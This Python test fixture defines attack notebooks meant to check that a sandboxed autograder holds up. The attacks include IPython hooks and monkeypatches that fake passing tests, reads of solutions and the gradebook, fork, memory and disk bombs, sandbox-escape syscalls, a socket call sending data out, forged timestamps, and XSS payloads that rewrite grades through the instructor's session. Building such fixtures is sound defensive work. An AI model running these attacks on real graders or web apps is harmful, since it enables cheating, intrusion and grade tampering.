"""A bank of attack submissions on notebook 02, each built from an honest sample student.

Each :class:`Attack` takes the honest notebook of a sample-class student (``base``: bob, whose
notebook has some known bugs, so there is something to gain) and either adds a code cell
(``where``: ``"top"``, right after the imports, or ``"end"``) or rewrites the notebook JSON
(``transform``). ``tests/test_attacks.py`` grades them all in one batch, with the honest class,
through the real CLI, and asserts that no attack scores above its honest base, that the honest
students get exactly their grades from a batch without attackers, and that nothing outside the
sandbox changed.

The batch has a due date (``LATE_POLICY``): every submission comes with nbgrader's
``timestamp.txt`` saying it was on time (``stamp``) and a notebook last saved before that
(``saved``), unless the attack forges them. An attack whose notebook file was saved late
(``saved=LATE_SAVED``) must lose the late penalty, whatever its ``timestamp.txt`` says.

Tokens in the cells are filled in by the test: ``@REPO@`` (the repository), ``@OUT@`` (the
grading output directory, the gradebook in it), ``@SUBS@`` (the submissions), ``@CANARY@`` (a
directory of canary files), ``@MARKER@`` (a unique string), ``@PORT@`` (a TCP port the test
listens on at 127.0.0.1).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from attacks.delegation import ROUTES, route_notebook

#: the late policy of the attack batch: half the points off a month late.
LATE_POLICY = """\
[default]
percent_per_day = 10
max_percent = 50

[02_bellman]
due = 2026-10-01T23:59:00Z
"""
#: what an honest on-time submission's timestamp.txt says, and when its notebook was saved.
ON_TIME_STAMP = "2026-09-30 12:00:00.000000 UTC"
ON_TIME_SAVED = "2026-09-30T11:00:00+00:00"
#: a notebook saved a month after the due date (50 % off under ``LATE_POLICY``).
LATE_SAVED = "2026-11-01T11:00:00+00:00"
LATE_FRACTION = 0.5


@dataclass(frozen=True)
class Attack:
    """One attack submission."""

    name: str
    code: str = ""
    where: str = "end"
    transform: Callable[[dict], Any] | None = None
    reason: str = ""
    """a text some graded cell's reason must contain (how the attack was stopped)."""
    base: str = "bob"
    zeroed: tuple[str, ...] = ()
    """grade ids that must score 0 (the functions the attack hands to something else)."""
    stamp: str | None = ON_TIME_STAMP
    """what its ``timestamp.txt`` holds (None: no such file)."""
    saved: str = ON_TIME_SAVED
    """the notebook file's modification time (ISO), as ``nbgrader collect`` keeps it."""
    time_source: str = ""
    """a text its ``grades.csv`` rows' ``time_source`` must contain (which time was used)."""

    @property
    def late(self) -> bool:
        """True when the notebook itself was saved after the due date."""
        return self.saved == LATE_SAVED


def _grade(cell: dict) -> dict:
    return cell["metadata"].get("nbgrader", {})


def _checks(nb: dict) -> list[dict]:
    return [c for c in nb["cells"] if _grade(c).get("grade") and c["cell_type"] == "code"]


def _tampered_metadata(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        meta = _grade(cell)
        if not meta:
            continue
        if meta.get("grade") and cell["cell_type"] == "code":
            cell["source"] = "pass  # every test passes"
            meta["points"] = 100
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "ok\n"}]
        elif meta.get("solution") and cell["cell_type"] == "code":
            meta.update(grade=True, points=50, locked=False)
        else:
            meta["points"] = 99
    return nb


def _duplicated_grade_ids(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    extra = [copy.deepcopy(c) for c in _checks(nb) for _ in range(3)]
    extra += [copy.deepcopy(c) for c in nb["cells"] if c["cell_type"] == "markdown"
              and _grade(c).get("grade")]
    for n, cell in enumerate(extra):
        cell["id"] = f"dup-{n}"
    nb["cells"] = extra[:2] + nb["cells"] + extra[2:]
    return nb


def _deleted_metadata(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    for cell in nb["cells"]:
        cell["metadata"] = {}
    nb["metadata"] = {}
    return nb


def _changed_kernelspec(nb: dict) -> dict:
    nb = copy.deepcopy(nb)
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash",
                                    "argv": ["/bin/sh", "-c", "touch /tmp/pwned"]}
    nb["metadata"]["language_info"] = {"name": "bash"}
    return nb


def _replace_function(nb: dict, name: str, source: str) -> dict:
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb["cells"] if _grade(c).get("grade_id") == name)
    cell["source"] = source
    return nb


#: notebook 02's policy iteration handed to pymdptoolbox, a `[dev]` extra (3 of 3 points
#: while the grading venv's dev extras were importable in the box). ``@PATHS@``: more places.
MDPTOOLBOX_POLICY_ITERATION = """\
def policy_iteration(mdp):
    \"\"\"Return (policy, values): an optimal deterministic policy and its value V^pi.\"\"\"
    import glob, site, sys
    sys.path += @PATHS@
    import mdptoolbox.mdp
    import numpy as np
    S, A, term = mdp.n_states, mdp.n_actions, mdp.terminal
    P = np.zeros((A, S + 1, S + 1))  # entering a terminal state: an absorbing state S
    P[:, :S, :S] = np.transpose(mdp.P * ~term[None, None, :], (1, 0, 2))
    P[:, :S, S] = np.transpose((mdp.P * term[None, None, :]).sum(axis=2), (1, 0))
    P[:, np.flatnonzero(term), :] = 0.0
    P[:, np.flatnonzero(term), S] = 1.0
    P[:, S, S] = 1.0
    R = np.zeros((S + 1, A))
    R[:S] = (mdp.P * mdp.R).sum(axis=2) * ~term[:, None]
    solver = mdptoolbox.mdp.PolicyIteration(P, R, mdp.gamma, eval_type=0)
    solver.run()
    return np.array(solver.policy[:S]), np.array(solver.V[:S])
"""

#: every other place a dev extra could be installed: the base interpreter's and Debian's.
ELSEWHERE = ('site.getsitepackages() + glob.glob(sys.base_prefix + "/lib/python3*/site-packages")'
             ' + glob.glob("/usr/lib/python3*/dist-packages")'
             ' + glob.glob("/usr/local/lib/python3*/*-packages")')


def mdptoolbox_notebook(nb: dict, paths: str = "[]") -> dict:
    """``nb`` (JSON) with its policy iteration solved by pymdptoolbox."""
    return _replace_function(nb, "policy_iteration",
                             MDPTOOLBOX_POLICY_ITERATION.replace("@PATHS@", paths))


def _q_from_v_importing(nb: dict, module: str) -> dict:
    """``nb`` (JSON) whose q_from_v first imports ``module`` (and is otherwise unchanged)."""
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb["cells"] if _grade(c).get("grade_id") == "q_from_v")
    source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    assert '"""\n' in source, "q_from_v needs a docstring to import after"
    cell["source"] = source.replace('"""\n', f'"""\n    import {module}  # a dev extra\n', 1)
    return nb


def _corrupt_json(nb: dict) -> str:
    return json.dumps(nb)[: len(json.dumps(nb)) // 2]


def _huge(nb: dict) -> str:
    nb = copy.deepcopy(nb)
    code = next(c for c in nb["cells"] if c["cell_type"] == "code")
    code["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * (30 * 2**20)}]
    return json.dumps(nb)


#: a student's text with a lone surrogate and terminal escapes (clear screen, window title,
#: colour, the one-byte CSI, a carriage return), as source code.
_NOISE = r"""import sys
NOISE = "\ud800 \x1b[2J\x1b]0;pwned title\x07\x1b[31m red \x9b2J \r"
"""


def _noisy_functions(nb: dict) -> dict:
    """Graded functions that raise, return and print the noise."""
    nb = _replace_function(nb, "value_iteration_step", _NOISE + """
def value_iteration_step(mdp, values):
    print(NOISE)
    raise ValueError("exception: " + NOISE)
""")
    nb = _replace_function(nb, "greedy_policy", _NOISE + """
def greedy_policy(mdp, values):
    return NOISE
""")
    return _replace_function(nb, "epsilon_greedy", _NOISE + """
def epsilon_greedy(q_row, epsilon, rng):
    return {NOISE: [NOISE, 1.5]}
""")
#: what the XSS attacker's script does in the instructor's browser: mark the page, then use
#: formgrader's API with the instructor's session (full marks for itself, zero for everyone
#: else, and nbgrader's autograde, which would run the notebook outside the sandbox).
XSS_SCRIPT = """\
window.__pwned = (window.__pwned || 0) + 1;
(async () => {
  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "");
  const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
  const api = "/formgrader/api/";
  const subs = await (await fetch(api + "submitted_notebooks/02_bellman/02_bellman")).json();
  for (const sub of subs) {
    const grades = await (await fetch(api + "grades?submission_id=" + sub.id)).json();
    for (const g of grades) {
      g.manual_score = sub.student === "x-xss" ? g.max_score : 0;
      await fetch(api + "grade/" + g.id, {method: "PUT", headers, body: JSON.stringify(g)});
    }
    await fetch(api + "submission/02_bellman/" + sub.student + "/autograde",
                {method: "POST", headers});
  }
})();
"""


def xss_payloads(script: str = XSS_SCRIPT) -> list[str]:
    """HTML that runs ``script``, each by another route."""
    import base64

    encoded = base64.b64encode(script.encode()).decode()
    run = f"eval(atob('{encoded}'))"
    return [f"<script>{script}</script>",
            f'<img src="x" onerror="{run}">',
            f'<svg onload="{run}"><script>{script}</script></svg>',
            f'<a href="javascript:{run}">click me</a>',
            f'<iframe srcdoc="<script>{run}</script>"></iframe>',
            f'<form action="javascript:{run}"><button>send</button></form>',
            f'<object data="data:text/html;base64,{encoded}"></object>',
            f'<embed src="data:text/html;base64,{encoded}">',
            f'<style>@import "javascript:{run}";</style>',
            f'<details open ontoggle="{run}">x</details>',
            f'<a href="data:text/html;base64,{encoded}">data link</a>']


def xss_notebook(nb: dict, marker: str = "/tmp/xss-autograde-marker") -> dict:
    """``nb`` with a script in every written answer and in outputs, and a code cell that
    writes ``marker`` (it must never run outside the sandbox)."""
    import base64

    nb = copy.deepcopy(nb)
    html = "\n".join(xss_payloads())
    for cell in nb["cells"]:
        if cell["cell_type"] == "markdown" and _grade(cell).get("grade"):
            cell["source"] = "My answer: $\\gamma < 1$ and a > b.\n\n" + html
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1">'
           f"<script>{XSS_SCRIPT}</script></svg>")
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {
            "text/html": html, "application/javascript": XSS_SCRIPT, "image/svg+xml": svg,
            "text/markdown": html, "text/plain": "a harmless figure"}},
        {"output_type": "display_data", "data": {
            "image/png": base64.b64encode(b"not a png").decode()},
         "metadata": {"image/png": {"width": f'1 onerror="{XSS_SCRIPT}"'}}},
        {"output_type": "stream", "name": 'stdout" onmouseover="window.__pwned=1',
         "text": "<script>window.__pwned = 1</script>"},
        {"output_type": "display_data", "metadata": {}, "data": {
            "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}}},
    ]
    code = ("import pathlib\n"
            f"pathlib.Path({marker!r}).write_text('student code ran')\n")
    nb["cells"] += [
        {"cell_type": "code", "execution_count": 1, "id": "xss-outputs", "metadata": {},
         "outputs": outputs, "source": "print('figure')"},
        {"cell_type": "code", "execution_count": 2, "id": "xss-marker", "metadata": {},
         "outputs": [], "source": code},
        {"cell_type": "markdown", "id": "xss-plain", "metadata": {"tags": ['x" onclick="1']},
         "source": html},
        {"cell_type": "raw", "id": "xss-raw", "metadata": {"raw_mimetype": "text/html"},
         "source": html},
    ]
    nb.setdefault("metadata", {})["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    return nb


def _json_bomb(nb: dict) -> str:
    return '{"cells": ' + "[" * 200_000 + "]" * 200_000 + ', "nbformat": 4}'


ATTACKS = [
    Attack("ipython_input_transformer", where="top", code="""\
import os
if os.environ.get("NBGRADER_EXECUTION"):
    # nbgrader's classic hole: every later cell (the test cells too) becomes `pass`
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""),
    Attack("ipython_pre_run_cell", code="""\
import builtins
ip = get_ipython()
def _pass_everything(*args, **kwargs):
    builtins.check = lambda *a, **k: print("\\u2713 all cases passed")
ip.events.register("pre_run_cell", _pass_everything)
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
"""),
    Attack("patched_numpy", where="top", code="""\
import numpy as np
import numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
"""),
    Attack("patched_builtins", where="top", code="""\
import builtins, operator
builtins.AssertionError = type("NeverRaised", (Exception,), {})
builtins.isinstance = lambda obj, cls: True
operator.eq = lambda a, b: True
"""),
    Attack("patched_grader", where="top", code="""\
import autograder.judge.core as core
import autograder.box.wire as wire
core.CheckReport.passed = property(lambda self: True)
core.allclose = lambda **k: (lambda got, expected: None)
core.Judge.__call__ = lambda self, outputs, rerun=None: core.CheckReport(
    self.spec.name, self.spec.points, (), None, None)
wire.encode = lambda value: {"s": "passed"}
"""),
    # issue 17's echo: make each case return its own expected value (the box once built the
    # cases, Case.call and its expected values were reachable there)
    Attack("echo_expected", where="top", code="""\
import autograder.judge.core as core
def _echo(self, fn):
    expected = self.expected
    if isinstance(expected, core.Deferred):
        expected = expected.compute()
    return expected if expected is not None else self.call.__wrapped__(self, fn)
_echo.__wrapped__ = core.Case.call
core.Case.call = _echo
"""),
    # the same, reaching the judge's files from the disk when the package is not importable
    Attack("echo_from_disk", where="top", code="""\
import glob, importlib.util, os, sys
roots = [p for p in sys.path if p and "site-packages" not in p] + ["/work", "/tmp", os.getcwd()]
found = sorted({f for r in roots for f in glob.glob(os.path.join(r, "**", "judge", "core.py"),
                                                    recursive=True)})
for path in found[:3]:
    spec = importlib.util.spec_from_file_location("judge_core_from_disk", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.Case.call = lambda self, fn: self.expected
import autograder.box.calls as calls
calls.Run.__call__ = lambda self, fn: self.params.get("expected")
"""),
    Attack("always_equal", code="""\
import numpy as np

class AlwaysEqual(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__

class EqualArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
    def __array__(self, *args, **kwargs):
        raise TypeError

def value_iteration_step(mdp, values):
    return np.zeros(mdp.n_states).view(EqualArray)

def policy_iteration(mdp):
    return AlwaysEqual(0), AlwaysEqual(0)

def epsilon_greedy(q_row, epsilon, rng):
    return AlwaysEqual(0)
"""),
    Attack("fake_output", code="""\
import os, sys
print("\\u2713 bellman.value_iteration_step: all 8 cases passed (2/2 points)")
print('{"status": "ok", "cases": [], "outputs": []}')
sys.stderr.write("Total: 16/16 autograded points\\n")
for fd in range(3, 20):
    try:
        os.write(fd, b'{"status": "ok", "nonce": null, "outputs": []}\\n')
    except OSError:
        pass
"""),
    Attack("sys_exit", code="""\
import sys
try:
    exit()
finally:
    sys.exit(0)
"""),
    Attack("os_exit", where="top", reason="crash:", code="""\
import os
os._exit(0)
"""),
    Attack("kill_parent", where="top", code="""\
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as exc:
        print("cannot kill", pid, exc)
os.killpg(os.getpgrp(), signal.SIGKILL)
"""),
    Attack("read_solutions", code="""\
import json, pathlib
wanted = ["value_iteration_step", "policy_iteration", "epsilon_greedy"]
sources = []
for path in ["@REPO@/solutions/02_bellman.py",
             "@REPO@/autograder/frontends/sample_class/alice/02_bellman/02_bellman.ipynb",
             "@SUBS@/alice/02_bellman/02_bellman.ipynb"]:
    try:
        text = pathlib.Path(path).read_text()
    except OSError as exc:
        print("cannot read", path, type(exc).__name__)
        continue
    if path.endswith(".ipynb"):
        sources += ["".join(c["source"]) for c in json.loads(text)["cells"]
                    if c["cell_type"] == "code"]
    else:
        sources += [chunk.split("\\n", 1)[1] for chunk in text.split("\\n# %%") if "\\n" in chunk]
for source in sources:
    if any(f"def {name}(" in source for name in wanted):
        exec(source, globals())
"""),
    Attack("read_gradebook", code="""\
import pathlib
for path in ["@OUT@/gradebook.db", "@OUT@/grades.csv", "@OUT@/course/nbgrader_config.py"]:
    try:
        print(path, len(pathlib.Path(path).read_bytes()))
    except OSError as exc:
        print("cannot read", path, type(exc).__name__)
"""),
    Attack("write_outside", code="""\
import sqlite3
for target in ["@REPO@/solutions/@MARKER@.txt", "@REPO@/autograder/checks/@MARKER@.py",
               "@REPO@/rlkit/@MARKER@.py", "@OUT@/gradebook.db", "@OUT@/grades.csv",
               "@SUBS@/alice/02_bellman/02_bellman.ipynb", "@CANARY@/canary.txt",
               "@CANARY@/@MARKER@", "/tmp/@MARKER@"]:
    for mode in ("a", "w"):
        try:
            with open(target, mode) as f:
                f.write("@MARKER@")
        except OSError as exc:
            print("cannot write", target, exc)
try:
    db = sqlite3.connect("@OUT@/gradebook.db")
    db.execute("update grade set manual_score = 100")
    db.commit()
except Exception as exc:
    print("no gradebook:", exc)
"""),
    Attack("infinite_loop", reason="timeout:", transform=lambda nb: _replace_function(
        nb, "q_learning_update", "def q_learning_update(*a):\n    while True:\n        pass\n")),
    Attack("infinite_loop_ignoring_signals", where="top", reason="timeout:", code="""\
import signal
for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
    signal.signal(sig, signal.SIG_IGN)
while True:
    try:
        pass
    except BaseException:
        pass
"""),
    Attack("fork_bomb", where="top", code="""\
import os, time
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass
time.sleep(3)
"""),
    Attack("memory_bomb", where="top", reason="memory:", code="""\
hog = []
while True:
    hog.append(b"x" * 2**26)
"""),
    Attack("disk_filler", where="top", code="""\
import os
chunk = b"x" * 2**20
for n, where in enumerate(["/scratch", "/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"),
                           "@CANARY@"]):
    try:
        with open(os.path.join(where, f"fill-@MARKER@-{n}"), "wb") as f:
            while True:
                f.write(chunk)
    except OSError as exc:
        print("stopped filling", where, exc)
"""),
    Attack("endless_output", where="top", code="""\
while True:
    print("spam " * 200)
"""),
    Attack("background_process", where="top", code="""\
import os, subprocess, sys, time
LOOP = r'''
import os, time  # @MARKER@
while True:
    for fd in range(3, 12):
        try:
            os.write(fd, b'{"status": "ok", "nonce": null}\\n')
        except OSError:
            pass
    try:
        open("@CANARY@/bg-@MARKER@", "w").write("x")
    except OSError:
        pass
    time.sleep(0.05)
'''
subprocess.Popen([sys.executable, "-c", LOOP], start_new_session=True, close_fds=False)
if os.fork() == 0:
    os.setsid()
    exec(LOOP)
time.sleep(0.5)
"""),
    # the fork server (issue 19): what one submission changes must not reach the next one
    # forked from the same server (the honest students graded after it on the same worker)
    Attack("poison_the_next_submission", where="top", code="""\
import builtins, os, subprocess, sys
import numpy as np
import torch
import rlkit, rlkit.dp, rlkit.mdp
np.max = np.amax = lambda *a, **k: 0.0
np.argmax = lambda *a, **k: 0
np.zeros = lambda shape, *a, **k: np.ones(shape)
np.ndarray.max = None
torch.zeros = torch.ones
for module in (rlkit.dp, rlkit.mdp):
    for name in dir(module):
        if not name.startswith("_") and callable(getattr(module, name)):
            setattr(module, name, lambda *a, **k: None)
builtins.sum = lambda *a, **k: 0
for where in ("/tmp", "/scratch", "/dev/shm", os.path.expanduser("~")):
    try:
        with open(os.path.join(where, "sitecustomize.py"), "w") as f:
            f.write("import numpy; numpy.max = lambda *a, **k: 0  # @MARKER@")
    except OSError as exc:
        print("cannot write", where, exc)
LOOP = "import time  # @MARKER@\\nwhile True:\\n    time.sleep(0.05)"
subprocess.Popen([sys.executable, "-c", LOOP], start_new_session=True)
"""),
    Attack("reach_the_fork_server", where="top", code="""\
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
for pid in [1, 0, -1, *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if pid == os.getpid():
        continue
    for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(pid, sig)
        except OSError as exc:
            print("cannot signal", pid, exc)
    if pid > 0:
        print("ptrace", pid, libc.ptrace(16, pid, None, None), ctypes.get_errno())
        for what in ("mem", "environ", "root/proc/1/cmdline", "fd/3", "fd/4", "fd/5"):
            try:
                print(what, open(f"/proc/{pid}/{what}", "rb").read(64))
            except OSError as exc:
                print("cannot read", pid, what, exc)
for ns in ("mnt", "pid", "user", "cgroup", "net"):
    try:
        fd = os.open(f"/proc/1/ns/{ns}", os.O_RDONLY)
        print("setns", ns, libc.setns(fd, 0), ctypes.get_errno())
    except OSError as exc:
        print("cannot open", ns, exc)
for target in (b"/scratch", b"/tmp", b"/proc", b"/dev/shm"):
    print("umount", target, libc.umount2(target, 2), ctypes.get_errno())
print("unshare", libc.unshare(0x10000000 | 0x20000), ctypes.get_errno())
print("mount", libc.mount(b"none", b"/", None, 1 << 18 | 1 << 14, None), ctypes.get_errno())
"""),
    Attack("network", where="top", code="""\
import socket
for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
    try:
        s = socket.create_connection((host, @PORT@), timeout=2)
        s.sendall(b"@MARKER@")
        print("connected to", host)
    except OSError as exc:
        print("no connection to", host, exc)
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError as exc:
    print("no DNS:", exc)
"""),
    Attack("tampered_metadata", transform=_tampered_metadata),
    Attack("duplicated_grade_ids", transform=_duplicated_grade_ids),
    Attack("deleted_metadata", transform=_deleted_metadata),
    Attack("changed_kernelspec", transform=_changed_kernelspec),
    Attack("corrupt_json", transform=_corrupt_json, reason="corrupt notebook: not valid JSON"),
    Attack("huge_notebook", transform=_huge, reason="more than the 20 MiB"),
    Attack("json_bomb", transform=_json_bomb, reason="corrupt notebook"),
    # the late policy: a late notebook whose timestamp.txt says otherwise, or is not there
    Attack("forged_early_timestamp", saved=LATE_SAVED,
           time_source="file time; timestamp.txt earlier than the file"),
    Attack("garbage_timestamp", saved=LATE_SAVED, stamp="yesterday-ish \x1b[2J\ud800",
           time_source="timestamp.txt unreadable"),
    Attack("empty_timestamp", saved=LATE_SAVED, stamp="", time_source="timestamp.txt unreadable"),
    Attack("missing_timestamp", saved=LATE_SAVED, stamp=None, time_source="no timestamp.txt"),
    Attack("binary_timestamp", saved=LATE_SAVED, stamp="\x00\xff" * 3000,
           time_source="timestamp.txt unreadable"),
    # one character: lone surrogates and terminal escapes in output, errors and return values
    Attack("surrogates_and_escapes", where="top", code=_NOISE + """
for stream in (sys.stdout, sys.stderr):
    stream.reconfigure(errors="surrogatepass")
print("print:", NOISE)
sys.stderr.write("stderr: " + NOISE + "\\n")
sys.stdout.buffer.write(b"raw: \\xed\\xa0\\x80 \\xff\\xfe \\x1b[2J\\n")
sys.stdout.flush()

class Loud(Exception):
    def __str__(self):
        return NOISE

raise Loud(NOISE)
"""),
    Attack("surrogate_outputs", transform=_noisy_functions),
    # scripts in the written answers and outputs, for the instructor's browser (formgrader)
    Attack("xss", transform=xss_notebook),
    # an honest notebook whose q_from_v hands the work to rlkit's own, by each route there is
    *(Attack(f"delegates_{route}", transform=lambda nb, r=route: route_notebook(nb, r),
             base="alice", reason="`q_from_v` calls `rlkit.dp.q_from_v`, the function this "
                                  "check asks you to write")
      for route in ROUTES),
    # a graded function that uses a dev extra of the grading venv: not importable in the box
    Attack("dev_extra_mdptoolbox", transform=mdptoolbox_notebook, base="alice",
           reason="No module named 'mdptoolbox'", zeroed=("check_bellman_policy_iteration",)),
    Attack("dev_extra_mdptoolbox_from_other_site_dirs", base="alice",
           transform=lambda nb: mdptoolbox_notebook(nb, ELSEWHERE),
           reason="No module named 'mdptoolbox'", zeroed=("check_bellman_policy_iteration",)),
    Attack("dev_extra_stable_baselines3", base="alice",
           transform=lambda nb: _q_from_v_importing(nb, "stable_baselines3"),
           reason="No module named 'stable_baselines3'", zeroed=("check_bellman_q_from_v",)),
]


def build(attack: Attack, base: dict, tokens: dict[str, str]) -> str:
    """The attack submission's file content, from the base student's notebook (JSON)."""
    if attack.transform is not None:
        out = attack.transform(base)
        return out if isinstance(out, str) else json.dumps(out)
    code = attack.code
    for key, value in tokens.items():
        code = code.replace(f"@{key}@", value)
    nb = copy.deepcopy(base)
    cell = {"cell_type": "code", "execution_count": None, "id": f"attack-{attack.name}",
            "metadata": {}, "outputs": [], "source": code}
    if attack.where == "top":
        first = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
        nb["cells"].insert(first + 1, cell)
    else:
        nb["cells"].append(cell)
    return json.dumps(nb)
